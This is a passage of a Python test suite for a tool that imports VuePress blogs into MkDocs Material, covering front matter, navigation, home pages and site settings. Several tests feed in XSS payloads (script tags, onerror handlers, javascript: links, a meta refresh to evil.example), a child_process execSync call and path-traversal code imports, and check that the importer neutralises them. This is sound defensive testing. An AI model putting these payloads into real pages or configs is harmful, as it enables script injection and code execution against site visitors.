    article = page[page.index("<article") : page.index("</article>")]
    flat = re.sub(r"\s+", "", re.sub(r"<(?!/?(?:ul|ol|li|div)\b)[^>]*>", "", article))
    flat = re.sub(r"<(/?(?:ul|ol|li|div))\b[^>]*>", r"<\1>", flat)
    assert "<li>甲<ul><li>乙在甲里<ul><li>丙在乙里</li></ul></li></ul></li><li>丁</li>" in flat
    first = flat[flat.index("<ol><li>第一") : flat.index("</ol>")]
    assert "<li>第一之下</li>" in first and "提示在第一里" in first and "x=1" in first and "<li>第二" in first


def test_the_root_page_that_says_home_is_the_home_page_beside_a_plain_readme(tmp_path):
    write(tmp_path / "blog/docs/README.md", "# 说明\n\n这是仓库说明。\n")
    write(tmp_path / "blog/docs/index.md", "---\nhome: true\nheroText: 小站\ntagline: 慢慢写\n---\n欢迎。\n")
    docs = make_project(tmp_path)
    report = import_blog(tmp_path / "blog", docs)
    assert report.home.startswith("index.md → index.md")
    assert "小站" in (docs / "index.md").read_text(encoding="utf-8")
    assert any(line.startswith("README.md:1: a second home page") for line in report.needs_a_person)


def test_a_theme_hope_blog_in_src_with_icons_imports_and_builds(tmp_path):
    """vuepress-theme-hope keeps its pages in ``src/`` and gives them ``icon: pen``, which Material would look up."""
    write(tmp_path / "blog/src/.vuepress/config.ts", "export default { title: '小站' }\n")
    write(tmp_path / "blog/src/01.笔记/01.甲.md", "---\ntitle: 甲\nicon: pen\n---\n正文\n")
    write(tmp_path / "blog/src/01.笔记/02.乙.md", "---\ntitle: 乙\nicon: book\nvuepress_icon: 我的\n---\n正文\n")
    write(tmp_path / "blog/CHANGELOG.md", "# 不是文章\n")
    docs = make_project(tmp_path)
    report = import_blog(tmp_path / "blog", docs)
    assert not (docs / "CHANGELOG.md").exists()
    meta = split_front_matter((docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")).metadata
    assert meta.get("vuepress_icon") == "pen" and "icon" not in meta
    assert any("'icon' means something else to Material" in line for line in report.needs_a_person)
    assert any(line.startswith("01.笔记/02.乙.md:3: front matter 'icon'") for line in report.needs_a_person)  # the key's own line
    meta = split_front_matter((docs / "01.笔记/02.乙.md").read_text(encoding="utf-8")).metadata
    assert (meta.get("vuepress_icon"), meta.get("vuepress_icon_2")) == ("我的", "book")  # nothing overwritten
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr


def test_a_permalink_that_is_the_page_s_new_address_is_not_reported_as_a_clash(tmp_path):
    write(tmp_path / "blog/docs/99.friends.md", "---\ntitle: 友链\npermalink: /friends\narticle: false\n---\n朋友们\n")
    report = import_blog(tmp_path / "blog", make_project(tmp_path))
    assert any("99.friends.md: /friends/ is its address here too" in line for line in report.same_address)
    assert not any("friends" in line for line in report.needs_a_person)


def test_the_site_s_address_edit_links_and_domain_come_from_the_blog_s_config(tmp_path):
    write(tmp_path / "blog/docs/.vuepress/config.js", "module.exports = {\n  title: '小站',\n  base: '/blog/',\n"
          "  plugins: [['sitemap', { hostname: 'https://example.cn' }], ['x', { f: () => 1 }]],\n"
          "  themeConfig: { repo: 'https://gitee.com/someone/blog', docsBranch: 'main', docsDir: 'docs' },\n}\n")
    write(tmp_path / "blog/docs/.vuepress/public/CNAME", "example.cn\n")
    write(tmp_path / "blog/docs/.vuepress/public/robots.txt", "User-agent: *\n")
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    project = tmp_path / "project"
    shutil.copyfile(ROOT / "mkdocs.yml", write(project / "mkdocs.yml", ""))
    code = main([str(tmp_path / "blog"), str(project / "docs"), "--mkdocs-yml", str(project / "mkdocs.yml")])
    assert code == 0
    config = (project / "mkdocs.yml").read_text(encoding="utf-8")
    assert 'site_url: "https://example.cn/blog/"' in config and 'repo_url: "https://gitee.com/someone/blog"' in config
    assert 'repo_name: "someone/blog"' in config and 'edit_uri: "edit/main/docs/"' in config
    assert (project / "docs/CNAME").read_text() == "example.cn\n" and (project / "docs/robots.txt").is_file()


def test_a_config_s_title_description_and_repository_reach_mkdocs_yml_as_plain_text_only(tmp_path, capsys):
    """Material prints site_name, site_description and repo_url raw on every page: a config whose title closed
    ``<title>`` and added a refresh and a script went into mkdocs.yml as it was, and the import said nothing."""
    write(tmp_path / "blog/docs/.vuepress/config.js", (
        "module.exports = { title: '</title><meta http-equiv=\"refresh\" content=\"3;url=https://evil.example/IMPORTED\">"
        "<script src=\"/x.txt\"></script><title>', description: '\"><script src=\"/x.txt\"></script>',"
        " themeConfig: { repo: 'https://evil.example/\"><script src=\"/x.txt\"></script>' } }\n"
    ))
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    mkdocs_yml = write(tmp_path / "mkdocs.yml", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
    assert main([str(tmp_path / "blog"), str(tmp_path / "docs"), "--mkdocs-yml", str(mkdocs_yml)]) == 0
    out = capsys.readouterr().out
    settings = [line for line in mkdocs_yml.read_text(encoding="utf-8").split("\n") if line.startswith(("site_", "repo_"))]
    assert not any(mark in line for line in settings for mark in ("<", ">", "evil.example", "&")), settings
    assert not any('"' in line.partition(": ")[2].strip('"') for line in settings), settings
    person = out.partition("needs a person")[2]
    assert "config.js: title '</title><meta" in person and "left out" in person
    assert "config.js: description" in person and "config.js: repo 'https://evil.example/" in person


@pytest.mark.parametrize("title, written", [
    ("Tom's Java & Go", "Tom’s Java ＆ Go"),
    ("<b>小站</b> <script>alert(1)</script>", "小站"),
    ("a <img src=x onerror=alert(1)> b", "a  b"),
    ('x" onmouseover="alert(1)', "x＂ onmouseover=＂alert(1)"),
])
def test_a_site_s_name_is_written_as_text_and_said_when_it_is_not_as_written(tmp_path, title, written):
    site = read_config(write(tmp_path / "config.yml", f"title: {json.dumps(title)}\ndescription: 说明\n"))
    assert site.title == written and [note for note in site.notes if note.startswith("config.yml: title")]
    text, _ = apply_site_config("site_name: x\n", site)
    assert text.startswith(f"site_name: {json.dumps(written, ensure_ascii=False)}\n")
    assert apply_site_config("site_name: x\n", SiteConfig(title=title))[0] == text.replace('site_description: "说明"\n', "")  # whoever made it


@pytest.mark.parametrize("repo, url", [
    ("someone/blog", "https://github.com/someone/blog"),
    ("http://git.example.cn:8080/someone/blog", "http://git.example.cn:8080/someone/blog"),
    ("https://x.example/a b", None),
    ("https://x.example/a'onclick='x", None),
    ("javascript:alert(1)//a/b", None),
    ("https://x.example/<b>", None),
])
def test_only_a_plain_repository_address_reaches_mkdocs_yml(tmp_path, repo, url):
    site = read_config(write(tmp_path / "config.yml", f"themeConfig:\n  repo: {json.dumps(repo)}\n"))
    text, _ = apply_site_config("site_name: x\n", SiteConfig(repo=repo))
    if url:
        assert site.repo == repo and f"repo_url: {json.dumps(url)}" in text and not site.notes
    else:
        assert site.repo == "" and "repo_url" not in text and site.notes[0].startswith(f"config.yml: repo {repo!r}")


def test_a_vuepress_2_config_gives_its_theme_s_settings_and_navbar(tmp_path, capsys):
    """VuePress 2 passes the theme's settings to a function (``defaultTheme({...})``) and calls the nav
    ``navbar``, its drop-downs' entries ``children``; a sitemap is a plugin function too. Read, never run."""
    marker = tmp_path / "ran"
    write(tmp_path / "blog/docs/.vuepress/config.ts", (
        "import { defineUserConfig } from 'vuepress'\nimport { defaultTheme } from '@vuepress/theme-default'\n"
        f"require('child_process').execSync('touch {marker}')\n"
        "export default defineUserConfig({\n  base: '/notes/',\n  title: '报错笔记',\n  bundler: viteBundler(),\n"
        "  plugins: [sitemapPlugin({ hostname: 'https://notes.example.cn' }), searchPlugin({ locales: {} })],\n"
        "  theme: defaultTheme({\n    repo: 'someone/notes',\n    docsBranch: 'main',\n    docsDir: 'docs',\n"
        "    navbar: [\n      { text: '首页', link: '/' },\n      '/01.笔记/01.甲.md',\n"
        "      { text: '更多', children: [{ text: '外站', link: 'https://example.org/' }] },\n    ],\n  }),\n})\n"
    ))
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    project = tmp_path / "project"
    shutil.copyfile(ROOT / "mkdocs.yml", write(project / "mkdocs.yml", ""))
    assert main([str(tmp_path / "blog"), str(project / "docs"), "--mkdocs-yml", str(project / "mkdocs.yml")]) == 0
    config, printed = (project / "mkdocs.yml").read_text(encoding="utf-8"), capsys.readouterr().out
    assert 'site_url: "https://notes.example.cn/notes/"' in config and 'repo_url: "https://github.com/someone/notes"' in config
    assert 'edit_uri: "edit/main/docs/"' in config and 'site_name: "报错笔记"' in config
    assert "/01.笔记/01.甲.md (/01.笔记/01.甲.md) → " in printed and "3 nav items" in printed
    assert "nav item '外站' (https://example.org/) leads off the site" in printed
    assert not marker.exists()


def test_toml_front_matter_is_read(tmp_path):
    report, docs = import_files(tmp_path, {"01.笔记/01.甲.md": '---toml\ntitle = "甲篇"\ntags = ["笔记"]\n---\n正文 [坏](nowhere.md)\n'})
    split = split_front_matter((docs / "01.笔记/01.甲.md").read_text(encoding="utf-8"))
    assert split.metadata["title"] == "甲篇" and split.metadata["tags"] == ["笔记"] and split.body.startswith("正文")
    assert any(line.startswith("01.笔记/01.甲.md:5: link nowhere.md") for line in report.needs_a_person)  # the author's line


def test_a_catalogue_that_names_its_folder_by_path_lists_it(tmp_path):
    report, docs = import_files(tmp_path, {
        "01.指南/01.开始.md": "---\ntitle: 开始\n---\n正文\n",
        "00.目录页/01.指南.md": "---\ntitle: 指南\npermalink: /guide/\npageComponent:\n  name: Catalogue\n  data:\n    path: 01.指南\n---\n",
    })
    catalogue = (docs / "01.指南/index.md").read_text(encoding="utf-8")
    assert "permalink: /guide/" in catalogue and "- [开始](01.开始.md)" in catalogue
    assert not any("catalogue of ?" in line for line in report.theme_pages)


def test_a_catalogue_keeps_its_description_and_its_own_text(tmp_path):
    """An importer round (twenty-four): vdoing shows a catalogue's ``description`` under its title and the page's own
    text under the list; the folder's index page had only the list, and nothing said the rest was gone."""
    report, docs = import_files(tmp_path, {
        "01.专题/01.报错小结.md": "---\ntitle: 报错小结\n---\n正文\n",
        "00.目录页/01.专题.md": (
            "---\npageComponent:\n  name: Catalogue\n  data:\n    path: 01.专题\n    description: K8S <b>笔记</b><script>alert(1)</script>\n"
            "title: 专题\npermalink: /topic/\n---\n\n::: center\n\n## 凡所有相，皆是虚妄\n\n:::\n\n学习，记录，[分享](../01.专题/01.报错小结.md)\n"
        ),
    })
    catalogue = (docs / "01.专题/index.md").read_text(encoding="utf-8")
    assert catalogue.index("K8S <b>笔记</b>") < catalogue.index("- [报错小结](01.报错小结.md)") < catalogue.index("## 凡所有相，皆是虚妄")
    assert "学习，记录，[分享](01.报错小结.md)" in catalogue  # the link leads from where the page is now
    assert "script" not in catalogue and ":::" not in catalogue and report.failed == []


def test_toml_front_matter_nested_too_deep_is_left_as_written_not_a_crash(tmp_path):
    report, docs = import_files(tmp_path, {"01.笔记/01.甲.md": "---toml\nx = " + "[" * 100_000 + "\n---\n正文\n"})
    assert report.failed == [] and report.essays == ["01.笔记/01.甲.md"]
    assert "正文" in (docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")  # imported, the block kept as text


def test_a_value_under_an_explicit_tag_it_does_not_fit_does_not_end_the_import(tmp_path):
    """``!!bool maybe`` made PyYAML raise a KeyError through the lenient reading: the whole import stopped."""
    report, docs = import_files(
        tmp_path,
        {"01.笔记/01.甲.md": "---\ntitle: 甲\ndate: !!timestamp soon\n---\n正文\n", "01.笔记/02.乙.md": "---\ntitle: 乙\n---\n正文\n"},
    )
    assert without_old_addresses(split_front_matter((docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")).metadata) == {"title": "甲", "vuepress_date": "soon"}
    assert any(line.startswith("01.笔记/01.甲.md:3: date:") for line in report.needs_a_person)
    assert (docs / "01.笔记/02.乙.md").is_file() and report.failed == []


def test_a_value_kept_as_text_under_a_key_errata_does_not_read_is_said_too(tmp_path):
    report, docs = import_files(tmp_path, {"01.笔记/01.甲.md": "---\ntitle: 甲\ndate: 2021-02-30\ndraft: !!bool maybe\n---\n正文\n"})
    meta = without_old_addresses(split_front_matter((docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")).metadata)
    assert meta == {"title": "甲", "draft": "maybe", "vuepress_date": "2021-02-30"}
    notes = [line for line in report.needs_a_person if line.startswith("01.笔记/01.甲.md")]
    assert len(notes) == 2  # the date once (set aside), the bool once (kept as text)
    assert "01.笔记/01.甲.md:4: 'maybe' is not a valid bool: kept as text" in notes


def test_a_vuepress_2_home_keeps_its_actions_and_footer(tmp_path):
    home = (
        "---\nhome: true\nheroText: 小站\ntagline: 慢慢写\nactions:\n  - text: 快速开始\n    link: /01.笔记/01.甲.html\n    type: primary\n"
        "  - text: 关于\n    link: https://example.org/about\n    type: secondary\n  - text: 坏的\n    link: javascript:alert(1)\n"
        "footer: MIT Licensed | Copyright © 2024 <script>x()</script> | <a href=\"https://beian.miit.gov.cn/\" target=\"_blank\">"
        "京ICP备00000000号</a> | <a href='/01.笔记/01.甲.html'><b>关于</b>本站</a>\n---\n"
    )
    write(tmp_path / "blog/docs/README.md", home)
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    docs = make_project(tmp_path)
    import_blog(tmp_path / "blog", docs)
    index = (docs / "index.md").read_text(encoding="utf-8")
    assert "[快速开始](01.笔记/01.甲.md){ .md-button .md-button--primary }" in index
    assert "[关于](https://example.org/about){ .md-button }" in index and "javascript:" not in index
    # A footer is HTML in VuePress (ICP filing numbers are links): its links stay links, its other tags go.
    footer = "MIT Licensed | Copyright © 2024 | [京ICP备00000000号](https://beian.miit.gov.cn/) | [关于本站](01.笔记/01.甲.md)"
    assert footer + "\n{ .errata-footer }" in index and "script" not in index and "&lt;" not in index
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr
    page = (tmp_path / "site/index.html").read_text(encoding="utf-8")
    assert 'class="md-button md-button--primary"' in page and "<script>x()" not in page


@pytest.mark.parametrize(
    "footer", [lambda n: '<a href="x">' * n, lambda n: "<script>" * n, lambda n: "<" * (10 * n), lambda n: "<a " * n, lambda n: '<a href="' * n]
)
def test_a_home_page_footer_is_read_in_linear_time(footer):
    """A footer's link, element and tag patterns once read on to the end of the footer from every ``<``
    they started at: 8,000 unclosed ``<a href="x">`` took 16 s."""
    assert grows_linearly(lambda n: footer_markdown(footer(n), lambda url, image: url), 2000)


def imported_front_matter(tmp_path: Path, essays: dict[str, str]) -> tuple:
    """Essays (name under docs/ → text) imported into a project: (report, each essay's front matter by name)."""
    for name, text in essays.items():
        write(tmp_path / "blog/docs" / name, text)
    docs = make_project(tmp_path)
    report = import_blog(tmp_path / "blog", docs)
    return report, {name: split_front_matter((docs / name).read_text(encoding="utf-8")).metadata for name in essays}


def test_theme_names_for_categories_tags_and_date_come_across(tmp_path):
    """vuepress-theme-hope writes ``category``/``tag`` (a list or one value), plume dates a post by ``createTime``."""
    report, meta = imported_front_matter(tmp_path, {
        "a.md": "---\ntitle: 甲\ncategory:\n  - 前端\ntag: vite\nicon: pen\n---\n正文\n",
        "b.md": "---\ntitle: 乙\ncreateTime: 2024/03/02 14:20:11\npermalink: /article/k3j9/\n---\n正文\n",
        "c.md": "---\ntitle: 丙\ncategories: [后端]\ncategory: 别的\ndate: 2021-01-01\ncreateTime: 2020/1/1\n---\n正文\n",
    })
    a, b, c = meta["a.md"], meta["b.md"], meta["c.md"]
    assert (a.get("categories"), a.get("tags"), "category" in a, "tag" in a) == (["前端"], ["vite"], False, False)
    assert a.get("vuepress_icon") == "pen" and any(line.startswith("a.md:6: front matter 'icon'") for line in report.needs_a_person)
    assert str(b.get("date")).startswith("2024-03-02T14:20:11") and "createTime" not in b
    # Errata's own keys win
    assert (c.get("categories"), c.get("category"), str(c.get("date"))[:10], c.get("createTime")) == (["后端"], "别的", "2021-01-01", "2020/1/1")


def test_hope_1_dates_a_post_by_time_and_lists_its_home_s_project_cards(tmp_path):
    """vuepress-theme-hope 1 writes ``time`` for the date (a post without one missed the archive) and
    ``project`` for the home page's cards (hope 2 writes ``projects``)."""
    report, docs = import_files(tmp_path, {
        "README.md": "---\nhome: true\nblog: true\nheroText: 小站\nproject:\n  - name: 木桶原理\n    type: article\n    link: /posts/a/\n---\n",
        "posts/a.md": "---\ntitle: 木桶原理\ncategory: 随笔\ntime: 2020-03-22\n---\n正文\n",
    })
    post = split_front_matter((docs / "posts/a.md").read_text(encoding="utf-8")).metadata
    assert str(post.get("date"))[:10] == "2020-03-22" and "time" not in post
    assert "[木桶原理](posts/a.md)" in (docs / "index.md").read_text(encoding="utf-8")


def test_theme_tags_that_yaml_would_type_stay_text_and_author_false_is_no_author(tmp_path):
    """``tag: [2023, true]`` is two tags as written, not 2023 and True; hope's ``author: false`` hides the author."""
    _, meta = imported_front_matter(tmp_path, {
        "a.md": "---\ntitle: 甲\ntag: [2023, true]\nauthor: false\n---\n正文\n",
        "b.md": "---\ntitle: 乙\nauthor:\n  name: 乙\n  url: https://example.cn\n---\n正文\n",
    })
    assert meta["a.md"].get("tags") == ["2023", "true"] and not meta["a.md"].get("authors")
    assert meta["b.md"].get("authors") == [{"name": "乙", "link": "https://example.cn"}]


def test_code_imports_read_files_of_the_blog_and_nothing_outside_it(tmp_path):
    write(tmp_path / "blog/docs/code/hello.py", "print('hi')\n")
    write(tmp_path / "blog/secret.txt", "outside\n")
    write(tmp_path / "blog/docs/guide/a.md", "---\ntitle: 甲\n---\n@[code](../code/hello.py)\n\n<<< @/code/hello.py\n\n@[code](../../secret.txt)\n")
    docs = make_project(tmp_path)
    report = import_blog(tmp_path / "blog", docs)
    text = (docs / "guide/a.md").read_text(encoding="utf-8")
    assert text.count("```py\nprint('hi')\n```") == 2 and "outside" not in text
    assert any(line.startswith("guide/a.md:8: code import '../../secret.txt'") for line in report.needs_a_person)
    assert report.counts["code import"] == 2


def test_a_config_whose_theme_and_navbar_are_in_files_it_imports_is_read(tmp_path):
    """vuepress-theme-hope's layout: config.ts imports theme.ts, which imports navbar.ts (``navbar([...])``);
    reco's: a named export of config/navbar.ts. The files are read, never run, and only those of .vuepress/."""
    vuepress = tmp_path / "blog/docs/.vuepress"
    write(vuepress / "config.ts", "import { defineUserConfig } from 'vuepress'\nimport theme from './theme.js'\n\n"
          "export default defineUserConfig({\n  title: '山间',\n  theme,\n})\n")
    write(vuepress / "theme.ts", "import { hopeTheme } from 'vuepress-theme-hope'\nimport navbar from './navbar.js'\n"
          "import { links as more } from './config/links'\nimport secret from '../../../secret.js'\n\n"
          "export default hopeTheme({\n  repo: 'shan/notes',\n  docsBranch: 'main',\n  navbar,\n  more,\n  secret,\n})\n")
    write(vuepress / "navbar.ts", "import { navbar } from 'vuepress-theme-hope'\n\nexport default navbar([\n"
          "  '/',\n  { text: '笔记', children: [{ text: '甲', link: '/01.笔记/01.甲.md' }] },\n])\n")
    write(vuepress / "config/links.ts", "export const links = [{ text: '外站', link: 'https://example.org/' }]\n")
    write(tmp_path / "blog/secret.js", "export default { leaked: true }\n")
    config = read_config(vuepress / "config.ts")
    assert (config.title, config.repo, config.docs_branch) == ("山间", "shan/notes", "main")
    assert [item.get("text") for item in config.nav] == ["/", "笔记"]
    write(tmp_path / "blog/docs/01.笔记/01.甲.md", "---\ntitle: 甲\n---\n正文\n")
    report = import_blog(tmp_path / "blog", make_project(tmp_path))
    assert any(line.startswith("甲 (/01.笔记/01.甲.md) → 01.笔记/01.甲.md") for line in report.nav)


def test_a_config_with_many_names_is_read_in_linear_time(tmp_path):
    """Each file is scanned once and each name looked up once: a config of 20,000 names (unclosed
    literals, shorthands) cannot make the import slow."""
    config = write(tmp_path / "config.ts", "".join(f"const a{i} = [\n" for i in range(20_000)) + "export default {" + ",".join(f"a{i}" for i in range(20_000)) + "}")
    started = time.perf_counter()
    read_config(config)
    assert time.perf_counter() - started < 2.0


def test_vuepress_2_themes_give_docs_repo_hostname_and_the_main_branch(tmp_path):
    """reco and plume name the repository docsRepo; hope and plume take the hostname as a theme option;
    VuePress 2's edit links default to the branch main (VuePress 1's to master)."""
    config = write(tmp_path / "v2/config.ts", "export default defineUserConfig({ base: '/n/', theme: plumeTheme({\n"
                   "  hostname: 'https://meizi.example.net', docsRepo: 'https://github.com/meizi/notes', docsDir: 'docs' }) })\n")
    site = read_config(config)
    assert (site.repo, site.url, site.docs_branch) == ("https://github.com/meizi/notes", "https://meizi.example.net/n/", "main")
    config = write(tmp_path / "v1/config.js", "module.exports = { themeConfig: { repo: 'a/b', docsDir: 'docs' } }\n")
    assert read_config(config).docs_branch == ""  # apply_site_config writes VuePress 1's master


def test_a_hostname_in_a_comment_is_no_site_address(tmp_path):
    """plume's template ships ``// hostname: 'https://your_site_url'``: every blog made from it got that
    address, and no note asked for the real one. A YAML config's commented line is no setting either."""
    config = write(tmp_path / "p/config.ts", "export default defineUserConfig({ title: 'R', theme: plumeTheme({\n"
                   "  /* 部署域名 */\n  // hostname: 'https://your_site_url',\n}) })\n")
    assert read_config(config).url == ""
    config = write(tmp_path / "y/config.yml", "title: R\n# plugins: [[sitemap, {hostname: 'https://your_site_url'}]]\n")
    assert read_config(config).url == ""


def test_plume_s_theme_settings_are_read_from_plume_config_ts(tmp_path):
    """plume keeps its navbar and docsRepo in ``plume.config.ts`` beside ``config.ts``: the import read none of it."""
    write(tmp_path / "v/plume.config.ts", "import { defineThemeConfig } from 'vuepress-theme-plume'\nexport default defineThemeConfig({\n"
          "  docsRepo: 'someone/blog',\n  navbar: [{ text: '首页', link: '/' }, { text: '笔记', link: '/notes/' }],\n})\n")
    config = write(tmp_path / "v/config.ts", "export default defineUserConfig({ title: 'R', theme: plumeTheme({}) })\n")
    site = read_config(config)
    assert site.repo == "someone/blog" and [item["text"] for item in site.nav] == ["首页", "笔记"]


def test_links_to_a_blog_theme_s_category_and_tag_lists_lead_to_errata_s_pages(tmp_path):
    body = "[分类](/categories/linux/1/) [标签](/tags/pip/1/) [类](/category/前端/) [时间线](/timeline/) [页](/tags/real.html)\n"
    report, docs = import_files(tmp_path, {"01.笔记/01.甲.md": f"---\ntitle: 甲\n---\n{body}", "tags/real.md": "---\ntitle: 真\n---\n正文\n"})
    text = (docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")
    assert "[分类](../categories.md)" in text and "[标签](../tags.md)" in text and "[类](../categories.md)" in text
    assert "[时间线](../archive.md)" in text and "[页](../tags/real.md)" in text  # a page of the blog comes first
    assert not any("leads to nothing" in line for line in report.needs_a_person)


def test_a_theme_list_named_in_other_letter_case_still_leads_to_errata_s_page(tmp_path):
    """VuePress 1's router matches paths whatever their case, so reco 1's timeline answers at ``/timeLine/``
    as blogs' navs write it."""
    body = "[时间轴](/timeLine/) [分类](/Categories/linux/)\n"
    report, docs = import_files(tmp_path, {"01.笔记/01.甲.md": f"---\ntitle: 甲\n---\n{body}"})
    text = (docs / "01.笔记/01.甲.md").read_text(encoding="utf-8")
    assert "[时间轴](../archive.md)" in text and "[分类](../categories.md)" in text
    assert not any("timeLine" in line or "Categories" in line for line in report.needs_a_person)


def test_a_page_kept_off_the_blog_by_its_front_matter_is_not_published(tmp_path):
    """reco's ``publish: false`` and password ``keys``, a ``draft``: a static site would show them to everyone."""
    report, docs = import_files(tmp_path, {
        "a.md": "---\ntitle: 草稿\npublish: false\n---\n未完成\n",
        "b.md": "---\ntitle: 私密\nkeys:\n  - 'e10adc3949ba59abbe56e057f20f883e'\n---\n密码保护\n",
        "c.md": "---\ntitle: 稿\ndraft: true\n---\n稿\n",
        "d.md": "---\ntitle: 公开\npublish: true\ndraft: false\n---\n[草稿](./a.md)\n",
    })
    assert sorted(path.name for path in docs.glob("*.md") if path.name in ("a.md", "b.md", "c.md", "d.md")) == ["d.md"]
    assert any(line.startswith("a.md:3: front matter 'publish' keeps this page off the blog") for line in report.needs_a_person)
    assert any(line.startswith("b.md:3: front matter 'keys'") for line in report.needs_a_person)
    assert any(line.startswith("c.md:3: front matter 'draft'") for line in report.needs_a_person)
    assert "草稿" in (docs / "d.md").read_text(encoding="utf-8") and "./a.md" not in (docs / "d.md").read_text(encoding="utf-8")


def test_nav_links_under_a_drop_down_s_prefix_are_read_with_it(tmp_path):
    """vuepress-theme-hope writes a drop-down's ``prefix`` once and its entries relative to it."""
    write(tmp_path / "blog/docs/.vuepress/config.ts", "export default defineUserConfig({ theme: hopeTheme({ navbar: [\n"
          "  { text: '文章', prefix: '/posts/', children: [{ text: '前端', prefix: '前端/', children: ['vite'] }, { text: '后端', link: '后端/' }] },\n] }) })\n")
    report, _ = import_files(tmp_path, {"posts/前端/vite.md": "---\ntitle: 甲\n---\n正文\n", "posts/后端/README.md": "---\ntitle: 乙\n---\n正文\n"})
    assert "vite (/posts/前端/vite) → posts/前端/vite.md" in report.nav and "后端 (/posts/后端/) → posts/后端/README.md" in report.nav
    assert not any("nav item" in line for line in report.needs_a_person)


def test_pages_the_theme_encrypts_are_not_published(tmp_path):
    """vuepress-theme-hope's ``encrypt.config`` and plume's ``encrypt.rules`` put pages behind a password."""
    write(tmp_path / "blog/docs/.vuepress/config.ts", "export default defineUserConfig({ theme: hopeTheme({\n"
          "  encrypt: { config: { '/private/': ['1234'], '/posts/secret.html': '5678' } },\n}) })\n")
    report, docs = import_files(tmp_path, {
        "private/a.md": "---\ntitle: 甲\n---\n私\n", "posts/secret.md": "---\ntitle: 乙\n---\n密\n", "posts/open.md": "---\ntitle: 丙\n---\n公开\n",
    })
    assert not (docs / "private/a.md").exists() and not (docs / "posts/secret.md").exists() and (docs / "posts/open.md").exists()
    assert any(line.startswith("private/a.md:1: the theme's encrypt setting '/private/'") for line in report.needs_a_person)
    assert any(line.startswith("posts/secret.md:1: the theme's encrypt setting '/posts/secret.html'") for line in report.needs_a_person)


def test_home_pages_of_reco_plume_and_hope_keep_their_hero_buttons_and_cards(tmp_path):
    report, docs = import_files(tmp_path, {
        "README.md": "---\nhome: true\nbannerBrand:\n  title: 小夏\n  description: 记录问题\n  buttons:\n    - text: 入门\n      link: /docs/start\n"
                     "projects:\n  - name: 指南\n    desc: 怎么用\n    link: /docs/start\n---\n",
        "docs/start.md": "---\ntitle: 开始\n---\n正文\n",
    })
    home = (docs / "index.md").read_text(encoding="utf-8")
    assert "# 小夏" in home and "记录问题" in home and "[入门](docs/start.md){ .md-button .md-button--primary }" in home
    assert "[指南](docs/start.md)" in home and "怎么用" in home
    (docs / "index.md").unlink()
    write(tmp_path / "blog/docs/README.md", "---\npageLayout: home\nconfig:\n  - type: hero\n    hero:\n      name: 梅子\n      text: 写点东西\n"
          "      actions:\n        - theme: alt\n          text: 开始\n          link: /docs/start\n  - type: features\n    features:\n"
          "      - title: 简单\n        details: 只用 Markdown\n---\n")
    import_blog(tmp_path / "blog", docs)
    home = (docs / "index.md").read_text(encoding="utf-8")
    assert "# 梅子" in home and "写点东西" in home and "[开始](docs/start.md){ .md-button }" in home and "只用 Markdown" in home


def test_a_hero_s_tagline_and_text_both_stay_and_a_blog_list_button_leads_to_the_archive(tmp_path):
    """plume's hero has a tagline and a text under it, reco's banner a tagline and a description: the text
    (the description) was dropped. plume's ``/blog/`` (its list of posts) button was dropped as leading nowhere."""
    report, docs = import_files(tmp_path, {
        "README.md": "---\npageLayout: home\nconfig:\n  - type: hero\n    hero:\n      name: 梅子\n      tagline: 技术与思考\n"
                     "      text: 基于 Plume 的博客\n      actions:\n        - theme: brand\n          text: 博客\n          link: /blog/\n---\n",
    })
    home = (docs / "index.md").read_text(encoding="utf-8")
    assert "技术与思考\n{ .errata-tagline }\n\n基于 Plume 的博客\n" in home
    assert "[博客](archive.md){ .md-button .md-button--primary }" in home


def test_vdoing_s_javascript_template_config_is_read_through_its_requires(tmp_path):
    """vdoing's JS template: ``const themeConfig = require('./config/themeConfig.js')`` and ``module.exports = { themeConfig }``."""
    vuepress = tmp_path / ".vuepress"
    write(vuepress / "config.js", "const head = require('./config/head.js');\nconst themeConfig = require('./config/themeConfig.js');\n\n"
          "module.exports = {\n  theme: 'vdoing',\n  title: '小鱼',\n  head,\n  themeConfig,\n}\n")
    write(vuepress / "config/themeConfig.js", "const nav = require('./nav.js');\nmodule.exports = {\n  nav,\n  repo: 'xiaoyu/blog',\n"
          "  categoryText: '杂记',\n  footer: require('./footer.js'),\n}\n")
    write(vuepress / "config/nav.js", "module.exports = [\n  { text: '首页', link: '/' },\n  { text: '前端', link: '/web/' },\n]\n")
    config = read_config(vuepress / "config.js")
    assert (config.title, config.repo, config.posts_category) == ("小鱼", "xiaoyu/blog", "杂记")
    assert [item["text"] for item in config.nav] == ["首页", "前端"]


def test_a_deeply_nested_json_file_a_config_imports_does_not_end_the_import(tmp_path):
    write(tmp_path / ".vuepress/nav.json", "[" * 900 + "]" * 900)
    config = write(tmp_path / ".vuepress/config.ts", "import nav from './nav.json'\nexport default { title: '小站', themeConfig: { nav } }\n")
    assert read_config(config).title == "小站"


@pytest.mark.parametrize("head", ["import " + " " * 40_000 + "x", "import {" + " " * 40_000 + "}" + " " * 40_000 + "x", "const a" + " " * 40_000 + "= require(" + " " * 40_000])
def test_a_config_s_imports_are_read_in_linear_time(tmp_path, head):
    config = write(tmp_path / "config.ts", head + "\nexport default { title: '小站' }\n")
    started = time.perf_counter()
    assert read_config(config).title == "小站"
    assert time.perf_counter() - started < 1.0


def test_a_file_other_pages_only_include_is_no_page_of_its_own(tmp_path):
    """A part (``<!-- @include: ./part.md -->``) is in the pages that include it; a file that a page links to
    or the nav names is a page as well, included or not."""
    write(tmp_path / "blog/docs/.vuepress/config.js", "module.exports = { themeConfig: { nav: [{ text: '导航', link: '/guide/nav' }] } }\n")
    report, docs = import_files(tmp_path, {
